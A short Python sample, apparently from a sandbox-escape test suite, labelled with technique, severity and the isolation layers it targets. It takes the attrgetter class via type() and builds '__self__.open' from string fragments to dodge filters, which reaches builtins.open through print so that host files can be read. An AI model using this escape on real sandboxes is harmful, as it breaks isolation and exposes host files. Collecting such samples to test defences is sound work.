# technique: the class behind an attribute getter, by type
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import operator
    return type(operator.attrgetter("x"))("__se" + "lf__.op" + "en")(print)

read_host(trick)
